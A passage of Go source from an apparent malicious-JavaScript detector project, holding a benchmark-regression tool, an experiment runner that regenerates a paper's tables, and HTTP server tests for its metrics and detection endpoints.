		fs := flag.NewFlagSet("record", flag.ExitOnError)
		path := fs.String("file", "BENCH_scan.json", "benchmark history file")
		fs.Parse(args)
		if err := record(*path); err != nil {
			fatal(err)
		}
	case "compare":
		fs := flag.NewFlagSet("compare", flag.ExitOnError)
		path := fs.String("file", "BENCH_scan.json", "benchmark history file")
		maxRegress := fs.Float64("max-alloc-regress", 0.10,
			"maximum tolerated allocs/op regression (fraction)")
		baseline := fs.Int("baseline", -1,
			"run index to gate against (-1: the baseline recorded in the file)")
		fs.Parse(args)
		ok, err := compare(*path, *maxRegress, *baseline)
		if err != nil {
			fatal(err)
		}
		if !ok {
			os.Exit(1)
		}
	case "rebaseline":
		fs := flag.NewFlagSet("rebaseline", flag.ExitOnError)
		path := fs.String("file", "BENCH_scan.json", "benchmark history file")
		run := fs.Int("run", -1, "run index to promote (-1: the newest run)")
		fs.Parse(args)
		if err := rebaseline(*path, *run); err != nil {
			fatal(err)
		}
	default:
		usage()
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, "usage: benchcompare record|compare|rebaseline [flags]")
	os.Exit(2)
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "benchcompare:", err)
	os.Exit(1)
}

// load reads the history file, accepting both the current {"runs": [...]}
// shape and the legacy bare-array baseline.
func load(path string) (File, error) {
	data, err := os.ReadFile(path)
	if os.IsNotExist(err) {
		return File{}, nil
	}
	if err != nil {
		return File{}, err
	}
	var f File
	if err := json.Unmarshal(data, &f); err == nil && f.Runs != nil {
		return f, nil
	}
	var legacy []Benchmark
	if err := json.Unmarshal(data, &legacy); err != nil {
		return File{}, fmt.Errorf("%s: unrecognized format: %w", path, err)
	}
	return File{Runs: []Run{{GitSHA: "baseline", Benchmarks: legacy}}}, nil
}

// record parses benchmark output from stdin, echoes it through, and appends
// the parsed run to the history file.
func record(path string) error {
	var benches []Benchmark
	sc := bufio.NewScanner(os.Stdin)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		line := sc.Text()
		fmt.Println(line)
		b, ok, err := parseLine(line)
		if err != nil {
			return fmt.Errorf("malformed benchmark line %q: %w", line, err)
		}
		if ok {
			benches = append(benches, b)
		}
	}
	if err := sc.Err(); err != nil {
		return err
	}
	if len(benches) == 0 {
		return fmt.Errorf("no benchmark lines found on stdin")
	}
	f, err := load(path)
	if err != nil {
		return err
	}
	f.Runs = append(f.Runs, Run{
		GitSHA:     gitSHA(),
		Timestamp:  time.Now().UTC().Format(time.RFC3339),
		Benchmarks: benches,
	})
	out, err := json.MarshalIndent(f, "", "  ")
	if err != nil {
		return err
	}
	if err := os.WriteFile(path, append(out, '\n'), 0o644); err != nil {
		return err
	}
	fmt.Fprintf(os.Stderr, "benchcompare: recorded %d benchmarks to %s (run %d)\n",
		len(benches), path, len(f.Runs))
	return nil
}

// parseLine extracts one `BenchmarkName-P  N  X ns/op [Y MB/s] [Z B/op] [W allocs/op]`
// line. Values are located by their unit token, so the optional MB/s column
// (benchmarks using b.SetBytes) does not shift the fields. Lines that don't
// look like benchmark results return ok=false; lines that do but carry a
// malformed value return an error — recording a silent 0 would poison the
// history (a zero allocs/op baseline disables the regression gate, and a
// zero current value reads as a huge improvement).
func parseLine(line string) (Benchmark, bool, error) {
	fields := strings.Fields(line)
	if len(fields) < 4 || !strings.HasPrefix(fields[0], "Benchmark") {
		return Benchmark{}, false, nil
	}
	name := fields[0]
	if i := strings.LastIndex(name, "-"); i > 0 {
		if _, err := strconv.Atoi(name[i+1:]); err == nil {
			name = name[:i]
		}
	}
	iters, err := strconv.ParseInt(fields[1], 10, 64)
	if err != nil {
		// Not an iteration count, so not a result line (e.g. test prose
		// that happens to start with "Benchmark").
		return Benchmark{}, false, nil
	}
	b := Benchmark{Name: name, Iterations: iters}
	seen := false
	for i := 2; i+1 < len(fields); i += 2 {
		val, unit := fields[i], fields[i+1]
		switch unit {
		case "ns/op":
			if b.NsPerOp, err = strconv.ParseFloat(val, 64); err != nil {
				return Benchmark{}, false, fmt.Errorf("%s: %w", unit, err)
			}
			seen = true
		case "B/op":
			if b.BytesPerOp, err = strconv.ParseInt(val, 10, 64); err != nil {
				return Benchmark{}, false, fmt.Errorf("%s: %w", unit, err)
			}
		case "allocs/op":
			if b.AllocsPerOp, err = strconv.ParseInt(val, 10, 64); err != nil {
				return Benchmark{}, false, fmt.Errorf("%s: %w", unit, err)
			}
		}
	}
	return b, seen, nil
}

func gitSHA() string {
	out, err := exec.Command("git", "rev-parse", "--short", "HEAD").Output()
	if err != nil {
		return "unknown"
	}
	return strings.TrimSpace(string(out))
}

// compare prints per-benchmark deltas between the baseline and newest runs
// and reports whether every shared benchmark stays within the allocs/op
// regression budget. The baseline is the file's recorded index (promoted by
// rebaseline; the oldest run until then) unless baselineIdx >= 0 overrides
// it for this invocation.
func compare(path string, maxRegress float64, baselineIdx int) (bool, error) {
	f, err := load(path)
	if err != nil {
		return false, err
	}
	if len(f.Runs) < 2 {
		return false, fmt.Errorf("%s holds %d run(s); need a baseline and a current run", path, len(f.Runs))
	}
	idx := f.Baseline
	if baselineIdx >= 0 {
		idx = baselineIdx
	}
	if idx < 0 || idx >= len(f.Runs) {
		return false, fmt.Errorf("baseline index %d out of range (%d runs)", idx, len(f.Runs))
	}
	base, cur := f.Runs[idx], f.Runs[len(f.Runs)-1]
	baseBy := make(map[string]Benchmark, len(base.Benchmarks))
	for _, b := range base.Benchmarks {
		baseBy[b.Name] = b
	}
	fmt.Printf("baseline: %s (run %d, %s)  current: %s (run %d, %s)\n\n",
		base.GitSHA, idx, orDash(base.Timestamp),
		cur.GitSHA, len(f.Runs)-1, orDash(cur.Timestamp))
	fmt.Printf("%-36s %14s %14s %8s %12s %12s %8s\n",
		"benchmark", "ns/op(old)", "ns/op(new)", "Δns", "allocs(old)", "allocs(new)", "Δallocs")
	ok := true
	for _, b := range cur.Benchmarks {
		old, shared := baseBy[b.Name]
		if !shared {
			fmt.Printf("%-36s %14s %14.0f %8s %12s %12d %8s\n",
				b.Name, "-", b.NsPerOp, "new", "-", b.AllocsPerOp, "new")
			continue
		}
		nsDelta := pct(old.NsPerOp, b.NsPerOp)
		allocDelta := pct(float64(old.AllocsPerOp), float64(b.AllocsPerOp))
		verdict := ""
		if old.AllocsPerOp > 0 &&
			float64(b.AllocsPerOp) > float64(old.AllocsPerOp)*(1+maxRegress) {
			verdict = "  REGRESSION"
			ok = false
		}
		fmt.Printf("%-36s %14.0f %14.0f %7.1f%% %12d %12d %7.1f%%%s\n",
			b.Name, old.NsPerOp, b.NsPerOp, nsDelta,
			old.AllocsPerOp, b.AllocsPerOp, allocDelta, verdict)
	}
	if !ok {
		fmt.Printf("\nFAIL: allocs/op regressed more than %.0f%% on at least one benchmark\n",
			maxRegress*100)
	} else {
		fmt.Printf("\nOK: no benchmark regressed allocs/op beyond %.0f%%\n", maxRegress*100)
	}
	return ok, nil
}

// rebaseline promotes a recorded run (the newest, or runIdx when >= 0) to
// be the comparison baseline, preserving the full history — the gate simply
// starts measuring from the new steady state.
func rebaseline(path string, runIdx int) error {
	f, err := load(path)
	if err != nil {
		return err
	}
	if len(f.Runs) == 0 {
		return fmt.Errorf("%s holds no runs", path)
	}
	idx := len(f.Runs) - 1
	if runIdx >= 0 {
		idx = runIdx
	}
	if idx >= len(f.Runs) {
		return fmt.Errorf("run index %d out of range (%d runs)", idx, len(f.Runs))
	}
	f.Baseline = idx
	out, err := json.MarshalIndent(f, "", "  ")
	if err != nil {
		return err
	}
	if err := os.WriteFile(path, append(out, '\n'), 0o644); err != nil {
		return err
	}
	fmt.Fprintf(os.Stderr, "benchcompare: baseline is now run %d (%s, %s)\n",
		idx, f.Runs[idx].GitSHA, orDash(f.Runs[idx].Timestamp))
	return nil
}

func pct(old, new float64) float64 {
	if old == 0 {
		return 0
	}
	return (new - old) / old * 100
}

func orDash(s string) string {
	if s == "" {
		return "-"
	}
	return s
}
