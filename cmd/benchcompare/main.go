// benchcompare records `go test -bench` results into BENCH_scan.json and
// compares runs against the committed baseline, failing when allocations
// regress. It is the enforcement half of the repo's benchmark harness:
// scripts/bench.sh pipes benchmark output through `benchcompare record`,
// and `make bench-compare` runs `benchcompare compare` to print per-
// benchmark deltas and gate on allocs/op.
//
// Usage:
//
//	go test -bench . -benchmem ./... | benchcompare record [-file BENCH_scan.json]
//	benchcompare compare [-file BENCH_scan.json] [-max-alloc-regress 0.10]
//
// The file holds every recorded run, oldest first, so the performance
// history travels with the repo:
//
//	{"runs": [{"git_sha": "...", "timestamp": "...", "benchmarks": [...]}]}
//
// The pre-harness format (a bare array of benchmark entries) is read as a
// single baseline run and upgraded on the next record.
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"time"
)

// Benchmark is one parsed benchmark result line.
type Benchmark struct {
	Name        string  `json:"name"`
	Iterations  int64   `json:"iterations"`
	NsPerOp     float64 `json:"ns_per_op"`
	BytesPerOp  int64   `json:"bytes_per_op"`
	AllocsPerOp int64   `json:"allocs_per_op"`
}

// Run is one recorded benchmark session.
type Run struct {
	GitSHA     string      `json:"git_sha"`
	Timestamp  string      `json:"timestamp"`
	Benchmarks []Benchmark `json:"benchmarks"`
}

// File is the on-disk history.
type File struct {
	Runs []Run `json:"runs"`
}

func main() {
	if len(os.Args) < 2 {
		usage()
	}
	cmd, args := os.Args[1], os.Args[2:]
	switch cmd {
	case "record":
		fs := flag.NewFlagSet("record", flag.ExitOnError)
		path := fs.String("file", "BENCH_scan.json", "benchmark history file")
		fs.Parse(args)
		if err := record(*path); err != nil {
			fatal(err)
		}
	case "compare":
		fs := flag.NewFlagSet("compare", flag.ExitOnError)
		path := fs.String("file", "BENCH_scan.json", "benchmark history file")
		maxRegress := fs.Float64("max-alloc-regress", 0.10,
			"maximum tolerated allocs/op regression (fraction)")
		fs.Parse(args)
		ok, err := compare(*path, *maxRegress)
		if err != nil {
			fatal(err)
		}
		if !ok {
			os.Exit(1)
		}
	default:
		usage()
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, "usage: benchcompare record|compare [flags]")
	os.Exit(2)
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "benchcompare:", err)
	os.Exit(1)
}

// load reads the history file, accepting both the current {"runs": [...]}
// shape and the legacy bare-array baseline.
func load(path string) (File, error) {
	data, err := os.ReadFile(path)
	if os.IsNotExist(err) {
		return File{}, nil
	}
	if err != nil {
		return File{}, err
	}
	var f File
	if err := json.Unmarshal(data, &f); err == nil && f.Runs != nil {
		return f, nil
	}
	var legacy []Benchmark
	if err := json.Unmarshal(data, &legacy); err != nil {
		return File{}, fmt.Errorf("%s: unrecognized format: %w", path, err)
	}
	return File{Runs: []Run{{GitSHA: "baseline", Benchmarks: legacy}}}, nil
}

// record parses benchmark output from stdin, echoes it through, and appends
// the parsed run to the history file.
func record(path string) error {
	var benches []Benchmark
	sc := bufio.NewScanner(os.Stdin)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		line := sc.Text()
		fmt.Println(line)
		if b, ok := parseLine(line); ok {
			benches = append(benches, b)
		}
	}
	if err := sc.Err(); err != nil {
		return err
	}
	if len(benches) == 0 {
		return fmt.Errorf("no benchmark lines found on stdin")
	}
	f, err := load(path)
	if err != nil {
		return err
	}
	f.Runs = append(f.Runs, Run{
		GitSHA:     gitSHA(),
		Timestamp:  time.Now().UTC().Format(time.RFC3339),
		Benchmarks: benches,
	})
	out, err := json.MarshalIndent(f, "", "  ")
	if err != nil {
		return err
	}
	if err := os.WriteFile(path, append(out, '\n'), 0o644); err != nil {
		return err
	}
	fmt.Fprintf(os.Stderr, "benchcompare: recorded %d benchmarks to %s (run %d)\n",
		len(benches), path, len(f.Runs))
	return nil
}

// parseLine extracts one `BenchmarkName-P  N  X ns/op [Y MB/s] [Z B/op] [W allocs/op]`
// line. Values are located by their unit token, so the optional MB/s column
// (benchmarks using b.SetBytes) does not shift the fields.
func parseLine(line string) (Benchmark, bool) {
	fields := strings.Fields(line)
	if len(fields) < 4 || !strings.HasPrefix(fields[0], "Benchmark") {
		return Benchmark{}, false
	}
	name := fields[0]
	if i := strings.LastIndex(name, "-"); i > 0 {
		if _, err := strconv.Atoi(name[i+1:]); err == nil {
			name = name[:i]
		}
	}
	iters, err := strconv.ParseInt(fields[1], 10, 64)
	if err != nil {
		return Benchmark{}, false
	}
	b := Benchmark{Name: name, Iterations: iters}
	seen := false
	for i := 2; i+1 < len(fields); i += 2 {
		val, unit := fields[i], fields[i+1]
		switch unit {
		case "ns/op":
			b.NsPerOp, _ = strconv.ParseFloat(val, 64)
			seen = true
		case "B/op":
			b.BytesPerOp, _ = strconv.ParseInt(val, 10, 64)
		case "allocs/op":
			b.AllocsPerOp, _ = strconv.ParseInt(val, 10, 64)
		}
	}
	return b, seen
}

func gitSHA() string {
	out, err := exec.Command("git", "rev-parse", "--short", "HEAD").Output()
	if err != nil {
		return "unknown"
	}
	return strings.TrimSpace(string(out))
}

// compare prints per-benchmark deltas between the oldest (baseline) and
// newest runs and reports whether every shared benchmark stays within the
// allocs/op regression budget.
func compare(path string, maxRegress float64) (bool, error) {
	f, err := load(path)
	if err != nil {
		return false, err
	}
	if len(f.Runs) < 2 {
		return false, fmt.Errorf("%s holds %d run(s); need a baseline and a current run", path, len(f.Runs))
	}
	base, cur := f.Runs[0], f.Runs[len(f.Runs)-1]
	baseBy := make(map[string]Benchmark, len(base.Benchmarks))
	for _, b := range base.Benchmarks {
		baseBy[b.Name] = b
	}
	fmt.Printf("baseline: %s (%s)  current: %s (%s)\n\n",
		base.GitSHA, orDash(base.Timestamp), cur.GitSHA, orDash(cur.Timestamp))
	fmt.Printf("%-36s %14s %14s %8s %12s %12s %8s\n",
		"benchmark", "ns/op(old)", "ns/op(new)", "Δns", "allocs(old)", "allocs(new)", "Δallocs")
	ok := true
	for _, b := range cur.Benchmarks {
		old, shared := baseBy[b.Name]
		if !shared {
			fmt.Printf("%-36s %14s %14.0f %8s %12s %12d %8s\n",
				b.Name, "-", b.NsPerOp, "new", "-", b.AllocsPerOp, "new")
			continue
		}
		nsDelta := pct(old.NsPerOp, b.NsPerOp)
		allocDelta := pct(float64(old.AllocsPerOp), float64(b.AllocsPerOp))
		verdict := ""
		if old.AllocsPerOp > 0 &&
			float64(b.AllocsPerOp) > float64(old.AllocsPerOp)*(1+maxRegress) {
			verdict = "  REGRESSION"
			ok = false
		}
		fmt.Printf("%-36s %14.0f %14.0f %7.1f%% %12d %12d %7.1f%%%s\n",
			b.Name, old.NsPerOp, b.NsPerOp, nsDelta,
			old.AllocsPerOp, b.AllocsPerOp, allocDelta, verdict)
	}
	if !ok {
		fmt.Printf("\nFAIL: allocs/op regressed more than %.0f%% on at least one benchmark\n",
			maxRegress*100)
	} else {
		fmt.Printf("\nOK: no benchmark regressed allocs/op beyond %.0f%%\n", maxRegress*100)
	}
	return ok, nil
}

func pct(old, new float64) float64 {
	if old == 0 {
		return 0
	}
	return (new - old) / old * 100
}

func orDash(s string) string {
	if s == "" {
		return "-"
	}
	return s
}
