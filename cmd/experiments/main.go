// Command experiments regenerates the paper's tables and figures on the
// synthetic corpus.
//
// Usage:
//
//	experiments [-table N] [-figure N] [-quick] [-train N] [-test N] [-reps N] [-seed N]
//
// Without -table/-figure it runs everything in paper order.
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"jsrevealer/internal/experiments"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "experiments:", err)
		os.Exit(1)
	}
}

func run() error {
	table := flag.Int("table", 0, "run only this table (1-8)")
	figure := flag.Int("figure", 0, "run only this figure (5-7)")
	comparison := flag.Bool("comparison", false, "run the detector comparison once and print tables V & VI and figures 6 & 7")
	quick := flag.Bool("quick", false, "use the small quick configuration")
	train := flag.Int("train", 0, "training samples per class (overrides preset)")
	test := flag.Int("test", 0, "test samples per class (overrides preset)")
	reps := flag.Int("reps", 0, "repetitions (overrides preset)")
	seed := flag.Int64("seed", 42, "base random seed")
	flag.Parse()

	cfg := experiments.DefaultConfig()
	if *quick {
		cfg = experiments.QuickConfig()
	}
	if *train > 0 {
		cfg.TrainPerClass = *train
	}
	if *test > 0 {
		cfg.TestPerClass = *test
	}
	if *reps > 0 {
		cfg.Repetitions = *reps
	}
	cfg.Seed = *seed

	all := *table == 0 && *figure == 0 && !*comparison
	want := func(t, f int) bool {
		if *comparison {
			return t == 5 || t == 6 || f == 6 || f == 7
		}
		return all || (*table != 0 && *table == t) || (*figure != 0 && *figure == f)
	}
	started := time.Now()

	if want(1, 0) {
		fmt.Println(experiments.Table1(cfg).Render())
	}
	if want(2, 0) {
		res, err := experiments.Table2(cfg)
		if err != nil {
			return err
		}
		fmt.Println(res.Render())
	}
	if want(3, 0) {
		res, err := experiments.Table3(cfg, nil, nil)
		if err != nil {
			return err
		}
		fmt.Println(res.Render())
	}
	if want(4, 0) {
		res, err := experiments.Table4(cfg)
		if err != nil {
			return err
		}
		fmt.Println(res.Render())
	}
	if want(5, 0) || want(6, 0) || want(0, 6) || want(0, 7) {
		res, err := experiments.Comparison(cfg)
		if err != nil {
			return err
		}
		if want(5, 0) {
			fmt.Println(res.RenderTable5())
		}
		if want(6, 0) {
			fmt.Println(res.RenderTable6())
		}
		if want(0, 6) {
			fmt.Println(res.RenderFigure6())
		}
		if want(0, 7) {
			fmt.Println(res.RenderFigure7())
		}
	}
	if want(7, 0) {
		res, err := experiments.Table7(cfg)
		if err != nil {
			return err
		}
		fmt.Println(res.Render())
	}
	if want(8, 0) {
		res, err := experiments.Table8(cfg)
		if err != nil {
			return err
		}
		fmt.Println(res.Render())
	}
	if want(0, 5) {
		res, err := experiments.Figure5(cfg, 2, 15)
		if err != nil {
			return err
		}
		fmt.Println(res.Render())
	}
	fmt.Printf("done in %s\n", time.Since(started).Round(time.Millisecond))
	return nil
}
