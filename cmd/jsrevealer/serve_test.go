package main

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"

	"jsrevealer/internal/core"
	"jsrevealer/internal/corpus"
	"jsrevealer/internal/obs"
)

// TestServeMuxExposesMetricSurface drives the serve handler through
// httptest: /metrics must expose the pre-registered stage and scan metric
// families before any traffic, /healthz must report ok, and /detect must
// stay unrouted without a model.
func TestServeMuxExposesMetricSurface(t *testing.T) {
	reg := obs.NewRegistry()
	mux, err := newServeMux(reg, "", 0)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(mux)
	defer srv.Close()

	resp, err := http.Get(srv.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain; version=0.0.4") {
		t.Errorf("metrics content type = %q", ct)
	}
	raw, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	body := string(raw)
	for _, want := range []string{
		`jsrevealer_stage_duration_seconds_bucket{stage="parse",le="+Inf"} 0`,
		`jsrevealer_scan_files_total{verdict="malicious"} 0`,
		`jsrevealer_scan_errors_total{reason="timeout"} 0`,
		"jsrevealer_cache_hits_total 0",
		"jsrevealer_cache_misses_total 0",
		"# TYPE jsrevealer_scan_file_duration_seconds histogram",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("/metrics missing %q", want)
		}
	}

	health, err := http.Get(srv.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	defer health.Body.Close()
	if health.StatusCode != http.StatusOK {
		t.Errorf("/healthz status = %d", health.StatusCode)
	}
	var status map[string]string
	if err := json.NewDecoder(health.Body).Decode(&status); err != nil {
		t.Fatal(err)
	}
	if status["status"] != "ok" {
		t.Errorf("/healthz status field = %q", status["status"])
	}

	if resp, err := http.Get(srv.URL + "/debug/pprof/cmdline"); err != nil || resp.StatusCode != http.StatusOK {
		t.Errorf("/debug/pprof/cmdline: %v status %v", err, resp.StatusCode)
	} else {
		resp.Body.Close()
	}

	if resp, err := http.Post(srv.URL+"/detect", "text/plain", strings.NewReader("var a=1;")); err != nil {
		t.Fatal(err)
	} else {
		resp.Body.Close()
		if resp.StatusCode != http.StatusNotFound {
			t.Errorf("/detect without model: status %d, want 404", resp.StatusCode)
		}
	}
}

// TestServeDetectEndpoint loads a freshly trained model into the mux and
// checks POST /detect verdicts land as JSON and as scan metrics.
func TestServeDetectEndpoint(t *testing.T) {
	if testing.Short() {
		t.Skip("trains a model")
	}
	samples := corpus.Generate(corpus.Config{Benign: 30, Malicious: 30, Seed: 17})
	train := make([]core.Sample, len(samples))
	for i, s := range samples {
		train[i] = core.Sample{Source: s.Source, Malicious: s.Malicious}
	}
	opts := core.DefaultOptions()
	opts.Seed = 17
	opts.Embedding.Seed = 17
	opts.Embedding.Dim = 24
	opts.Embedding.Epochs = 5
	opts.Path.MaxPaths = 400
	opts.MaxPoolPerClass = 800
	det, err := core.Train(train, nil, opts)
	if err != nil {
		t.Fatal(err)
	}
	model := filepath.Join(t.TempDir(), "model.json")
	if err := det.Save(model); err != nil {
		t.Fatal(err)
	}

	reg := obs.NewRegistry()
	mux, err := newServeMux(reg, model, 0)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(mux)
	defer srv.Close()

	resp, err := http.Post(srv.URL+"/detect?name=sample.js", "text/plain",
		strings.NewReader(samples[0].Source))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/detect status = %d", resp.StatusCode)
	}
	var verdict struct {
		Path      string `json:"path"`
		Verdict   string `json:"verdict"`
		Malicious bool   `json:"malicious"`
		Reason    string `json:"reason"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&verdict); err != nil {
		t.Fatal(err)
	}
	if verdict.Path != "sample.js" || verdict.Verdict == "" {
		t.Errorf("verdict = %+v", verdict)
	}

	// An unparseable body degrades with the parse taxonomy reason.
	resp2, err := http.Post(srv.URL+"/detect", "text/plain", strings.NewReader("var = = ;;;("))
	if err != nil {
		t.Fatal(err)
	}
	defer resp2.Body.Close()
	if err := json.NewDecoder(resp2.Body).Decode(&verdict); err != nil {
		t.Fatal(err)
	}
	if verdict.Verdict != "DEGRADED" || verdict.Reason != "parse" {
		t.Errorf("broken body verdict = %+v, want DEGRADED/parse", verdict)
	}

	// Wrong method is rejected.
	if resp, err := http.Get(srv.URL + "/detect"); err != nil {
		t.Fatal(err)
	} else {
		resp.Body.Close()
		if resp.StatusCode != http.StatusMethodNotAllowed {
			t.Errorf("GET /detect status = %d, want 405", resp.StatusCode)
		}
	}

	// Reposting the first body is a verdict-cache hit, visible on the
	// counters the mux exposes.
	resp3, err := http.Post(srv.URL+"/detect?name=sample.js", "text/plain",
		strings.NewReader(samples[0].Source))
	if err != nil {
		t.Fatal(err)
	}
	resp3.Body.Close()
	if hits := reg.Counter("jsrevealer_cache_hits_total", "", nil).Value(); hits != 1 {
		t.Errorf("cache hits after repeated body = %d, want 1", hits)
	}

	// All three scans must be visible on the registry the mux exposes.
	var total int64
	for _, v := range []string{"benign", "malicious", "degraded", "failed"} {
		total += reg.Counter("jsrevealer_scan_files_total", "", obs.Labels{"verdict": v}).Value()
	}
	if total != 3 {
		t.Errorf("scan files counter total = %d, want 3", total)
	}
}
