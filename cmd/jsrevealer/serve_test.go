package main

import (
	"bufio"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"

	"jsrevealer/internal/core"
	"jsrevealer/internal/corpus"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/serve"
)

// TestServeExposesMetricSurface drives the serving subsystem the way the
// serve subcommand wires it: /metrics must expose the pre-registered
// stage, scan, and serve metric families before any traffic, /healthz must
// report ok, and the work endpoints must answer 503 without a model.
func TestServeExposesMetricSurface(t *testing.T) {
	reg := obs.NewRegistry()
	s, err := serve.New(serve.Config{}, reg)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	srv := httptest.NewServer(requestLog(s.Handler()))
	defer srv.Close()

	resp, err := http.Get(srv.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain; version=0.0.4") {
		t.Errorf("metrics content type = %q", ct)
	}
	raw, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	body := string(raw)
	for _, want := range []string{
		`jsrevealer_stage_duration_seconds_bucket{stage="parse",le="+Inf"} 0`,
		`jsrevealer_scan_files_total{verdict="malicious"} 0`,
		`jsrevealer_scan_errors_total{reason="timeout"} 0`,
		"jsrevealer_cache_hits_total 0",
		"jsrevealer_serve_queue_depth 0",
		`jsrevealer_serve_admission_rejects_total{reason="queue_full"} 0`,
		`jsrevealer_serve_reloads_total{result="ok"} 0`,
		`jsrevealer_serve_request_duration_seconds_count{endpoint="/scan"} 0`,
		"# TYPE jsrevealer_scan_file_duration_seconds histogram",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("/metrics missing %q", want)
		}
	}

	health, err := http.Get(srv.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	defer health.Body.Close()
	if health.StatusCode != http.StatusOK {
		t.Errorf("/healthz status = %d", health.StatusCode)
	}
	var status map[string]string
	if err := json.NewDecoder(health.Body).Decode(&status); err != nil {
		t.Fatal(err)
	}
	if status["status"] != "ok" {
		t.Errorf("/healthz status field = %q", status["status"])
	}

	if resp, err := http.Get(srv.URL + "/debug/pprof/cmdline"); err != nil || resp.StatusCode != http.StatusOK {
		t.Errorf("/debug/pprof/cmdline: %v status %v", err, resp.StatusCode)
	} else {
		resp.Body.Close()
	}

	// Without a model, work endpoints shed load instead of 404ing.
	for _, path := range []string{"/detect", "/scan", "/jobs"} {
		resp, err := http.Post(srv.URL+path, "text/plain", strings.NewReader("var a=1;"))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusServiceUnavailable {
			t.Errorf("%s without model: status %d, want 503", path, resp.StatusCode)
		}
	}

	// Wrong method is rejected by the route table.
	if resp, err := http.Get(srv.URL + "/detect"); err != nil {
		t.Fatal(err)
	} else {
		resp.Body.Close()
		if resp.StatusCode != http.StatusMethodNotAllowed {
			t.Errorf("GET /detect status = %d, want 405", resp.StatusCode)
		}
	}
}

// TestServeDetectEndpoint loads a freshly trained model into the subsystem
// and checks POST /detect verdicts land as JSON and as scan metrics, the
// verdict cache takes repeats, and /scan streams a real-model batch.
func TestServeDetectEndpoint(t *testing.T) {
	if testing.Short() {
		t.Skip("trains a model")
	}
	samples := corpus.Generate(corpus.Config{Benign: 30, Malicious: 30, Seed: 17})
	train := make([]core.Sample, len(samples))
	for i, s := range samples {
		train[i] = core.Sample{Source: s.Source, Malicious: s.Malicious}
	}
	opts := core.DefaultOptions()
	opts.Seed = 17
	opts.Embedding.Seed = 17
	opts.Embedding.Dim = 24
	opts.Embedding.Epochs = 5
	opts.Path.MaxPaths = 400
	opts.MaxPoolPerClass = 800
	det, err := core.Train(train, nil, opts)
	if err != nil {
		t.Fatal(err)
	}
	model := filepath.Join(t.TempDir(), "model.json")
	if err := det.Save(model); err != nil {
		t.Fatal(err)
	}

	reg := obs.NewRegistry()
	s, err := serve.New(serve.Config{ModelPath: model}, reg)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	srv := httptest.NewServer(requestLog(s.Handler()))
	defer srv.Close()

	resp, err := http.Post(srv.URL+"/detect?name=sample.js", "text/plain",
		strings.NewReader(samples[0].Source))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/detect status = %d", resp.StatusCode)
	}
	var verdict struct {
		Path      string `json:"path"`
		Verdict   string `json:"verdict"`
		Malicious bool   `json:"malicious"`
		Reason    string `json:"reason"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&verdict); err != nil {
		t.Fatal(err)
	}
	if verdict.Path != "sample.js" || verdict.Verdict == "" {
		t.Errorf("verdict = %+v", verdict)
	}

	// An unparseable body degrades with the parse taxonomy reason.
	resp2, err := http.Post(srv.URL+"/detect", "text/plain", strings.NewReader("var = = ;;;("))
	if err != nil {
		t.Fatal(err)
	}
	defer resp2.Body.Close()
	if err := json.NewDecoder(resp2.Body).Decode(&verdict); err != nil {
		t.Fatal(err)
	}
	if verdict.Verdict != "DEGRADED" || verdict.Reason != "parse" {
		t.Errorf("broken body verdict = %+v, want DEGRADED/parse", verdict)
	}

	// Reposting the first body is a verdict-cache hit, visible on the
	// counters the subsystem exposes.
	resp3, err := http.Post(srv.URL+"/detect?name=sample.js", "text/plain",
		strings.NewReader(samples[0].Source))
	if err != nil {
		t.Fatal(err)
	}
	resp3.Body.Close()
	if hits := reg.Counter("jsrevealer_cache_hits_total", "", nil).Value(); hits != 1 {
		t.Errorf("cache hits after repeated body = %d, want 1", hits)
	}

	// A real-model NDJSON batch streams one verdict line per script.
	batch := `{"name":"a.js","source":` + mustJSON(samples[0].Source) + `}` + "\n" +
		`{"name":"b.js","source":` + mustJSON(samples[1].Source) + `}` + "\n"
	resp4, err := http.Post(srv.URL+"/scan", "application/x-ndjson", strings.NewReader(batch))
	if err != nil {
		t.Fatal(err)
	}
	defer resp4.Body.Close()
	if resp4.StatusCode != http.StatusOK {
		t.Fatalf("/scan status = %d", resp4.StatusCode)
	}
	var lines int
	sc := bufio.NewScanner(resp4.Body)
	for sc.Scan() {
		lines++
	}
	if lines != 2 {
		t.Errorf("/scan streamed %d lines, want 2", lines)
	}

	// /version reports the model's provenance.
	resp5, err := http.Get(srv.URL + "/version")
	if err != nil {
		t.Fatal(err)
	}
	defer resp5.Body.Close()
